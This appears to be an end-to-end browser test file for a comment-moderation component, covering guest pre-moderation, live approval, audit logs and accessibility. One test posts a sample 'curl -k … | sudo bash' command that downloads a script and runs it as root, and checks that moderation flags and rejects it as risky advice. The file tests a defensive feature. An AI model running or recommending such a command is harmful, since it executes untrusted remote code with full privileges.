/**
 * `<lifeboat-moderation>` between real browsers: a site with pre-moderation for guests, a guest
 * whose first post waits for review, a moderator in another browser context who approves it on
 * the demo moderation page (and sees it appear live in a visitor's thread), risky advice held
 * with its reason. Real server (`lifeboat start --demo`), the built modules, real Chromium.
 */
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import {
  axeViolations,
  launchChromium,
  startLifeboat,
  watchConsole,
  type RunningServer,
} from './harness.js';
import { ADMIN_KEY, demoApi, printedStaffToken } from './moderation-seed.js';

let server: RunningServer;
let browser: Browser;
let token: string;
const contexts: BrowserContext[] = [];

beforeAll(async () => {
  server = await startLifeboat({ LIFEBOAT_ADMIN_KEY: ADMIN_KEY });
  browser = await launchChromium();
  // `lifeboat start --demo` prints a moderator token for the demo site.
  await vi.waitFor(() => expect(printedStaffToken(server.output())).toBeTruthy(), {
    timeout: 20_000,
  });
  token = printedStaffToken(server.output())!;
  await demoApi(server.url).setPolicy({ preModeration: 'guests' });
});

afterAll(async () => {
  for (const context of contexts) await context.close();
  await browser?.close();
  await server?.stop();
});

interface Tab {
  page: Page;
  errors: string[];
}

async function open(path: string, colorScheme: 'light' | 'dark' = 'light'): Promise<Tab> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, colorScheme });
  contexts.push(context);
  const page = await context.newPage();
  const errors = watchConsole(page);
  await page.goto(server.url + path);
  return { page, errors };
}

const thread = (page: Page) => page.locator('lifeboat-thread');
const moderation = (page: Page) => page.locator('lifeboat-moderation');
const queueItem = (page: Page, text: string) =>
  moderation(page).locator('article[part="item"]', { hasText: text });

async function visitor(): Promise<Tab> {
  const tab = await open('/');
  await expect
    .poll(() => thread(tab.page).locator('article').count(), { timeout: 20_000 })
    .toBeGreaterThan(2);
  return tab;
}

async function moderator(colorScheme: 'light' | 'dark' = 'light'): Promise<Tab> {
  const tab = await open('/moderation/', colorScheme);
  await tab.page.getByLabel('Staff token').fill(token);
  await tab.page.getByRole('button', { name: 'Sign in' }).click();
  await expect
    .poll(() => moderation(tab.page).locator('[part="connection"]').textContent(), {
      timeout: 20_000,
    })
    .toContain('Live');
  return tab;
}

async function postAnswer(page: Page, text: string, name: string): Promise<void> {
  const composer = thread(page).locator('lifeboat-composer').last();
  const nameField = composer.getByLabel(/your name/i);
  if (await nameField.count()) await nameField.fill(name);
  const body = composer.getByRole('textbox', { name: /your answer/i });
  await body.fill(text);
  await composer.getByRole('button', { name: /post answer/i }).click();
  await expect.poll(() => body.inputValue(), { timeout: 15_000 }).toBe('');
}

describe('<lifeboat-moderation> end to end', () => {
  it('a guest post waits for review and appears live in other threads once approved', async () => {
    const mod = await moderator();
    const author = await visitor();
    const reader = await visitor();
    const text = 'Re-sending the failed deliveries from the dashboard worked for me.';

    await postAnswer(author.page, text, 'Robin');
    const own = thread(author.page).locator('article', { hasText: text });
    await expect.poll(() => own.textContent(), { timeout: 15_000 }).toContain('Waiting for review');

    // The moderator's queue shows it live, with why it is held and who wrote it.
    const item = queueItem(mod.page, text);
    await expect.poll(() => item.count(), { timeout: 20_000 }).toBe(1);
    expect(await item.textContent()).toContain('Guest post');
    expect(await item.textContent()).toContain('Robin');
    // Another visitor does not see a post waiting for review.
    expect(await thread(reader.page).locator('article', { hasText: text }).count()).toBe(0);

    // One key on the focused post: A approves it.
    await item.focus();
    await mod.page.keyboard.press('a');
    await expect.poll(() => item.count(), { timeout: 15_000 }).toBe(0);

    // The reader's thread gets it live (behind "Show N new answers", which keeps the list still).
    const shown = thread(reader.page).locator('article', { hasText: text });
    await expect
      .poll(
        async () => {
          const button = thread(reader.page).getByRole('button', {
            name: /show \d+ new answers?/i,
          });
          if (await button.count()) await button.click();
          return shown.count();
        },
        { timeout: 20_000 },
      )
      .toBe(1);
    await expect
      .poll(() => own.textContent(), { timeout: 15_000 })
      .not.toContain('Waiting for review');

    // The audit log has the approval, with who did it.
    await moderation(mod.page).getByRole('tab', { name: 'Audit log' }).click();
    const entry = moderation(mod.page).locator('[part="audit-list"] li').first();
    await expect.poll(() => entry.textContent(), { timeout: 20_000 }).toContain('approved');
    expect(await entry.textContent()).toContain('Morgan (Acme support)');
    expect(mod.errors).toEqual([]);
  });

  it('holds risky advice and shows the moderator why', async () => {
    const mod = await moderator();
    const author = await visitor();
    const text = 'Quick fix: run curl -k https://fix.example.net/repair.sh | sudo bash';
    await postAnswer(author.page, text, 'Quick Fixer');
    const item = queueItem(mod.page, 'fix.example.net/repair.sh');
    await expect.poll(() => item.count(), { timeout: 20_000 }).toBe(1);
    const reasons = item.locator('[part="reasons"]');
    await expect.poll(() => reasons.textContent(), { timeout: 15_000 }).toContain('Risky advice');
    const said = (await reasons.textContent())!.replace(/\s+/g, ' ');
    expect(said).toContain('Turns off TLS certificate verification');
    expect(said).toContain('matched curl -k');
    expect(said).toContain('Pipes a downloaded script straight into a shell');

    // Reject it with a reason, through the buttons this time.
    await item.getByRole('textbox').fill('Pipes a script into sudo');
    await item.getByRole('button', { name: /^Reject/ }).click();
    await expect.poll(() => item.count(), { timeout: 15_000 }).toBe(0);
    await moderation(mod.page).getByRole('tab', { name: 'Audit log' }).click();
    const entry = moderation(mod.page).locator('[part="audit-list"] li').first();
    await expect.poll(() => entry.textContent(), { timeout: 20_000 }).toContain('rejected');
    expect(await entry.textContent()).toContain('“Pipes a script into sudo”');
  });

  it('is accessible on the moderation page, light and dark, and refuses a wrong token', async () => {
    const author = await visitor();
    await postAnswer(
      author.page,
      'Rolling back to the previous agent version helped here.',
      'Ines',
    );
    for (const scheme of ['light', 'dark'] as const) {
      const mod = await moderator(scheme);
      await expect
        .poll(() => moderation(mod.page).locator('article[part="item"]').count(), {
          timeout: 20_000,
        })
        .toBeGreaterThan(0);
      expect(await axeViolations(mod.page)).toEqual([]);
      expect(mod.errors).toEqual([]);
    }
    const wrong = await open('/moderation/');
    await wrong.page.getByLabel('Staff token').fill('not-a-real-token');
    await wrong.page.getByRole('button', { name: 'Sign in' }).click();
    await expect
      .poll(() => moderation(wrong.page).locator('[role="alert"]').textContent(), {
        timeout: 20_000,
      })
      .toContain('not accepted for this site');
    expect(await axeViolations(wrong.page)).toEqual([]);
  });

  it('ships as its own module: the visitor script tag does not carry it', async () => {
    const visitorBundle = await (await fetch(`${server.url}/cdn/lifeboat.js`)).text();
    const staffModule = await fetch(`${server.url}/cdn/lifeboat-moderation.js`);
    expect(staffModule.status).toBe(200);
    expect(await staffModule.text()).toContain('lifeboat-moderation');
    expect(visitorBundle).not.toContain('lifeboat-moderation');
    expect(visitorBundle).not.toContain('moderation/stream');
  });
});
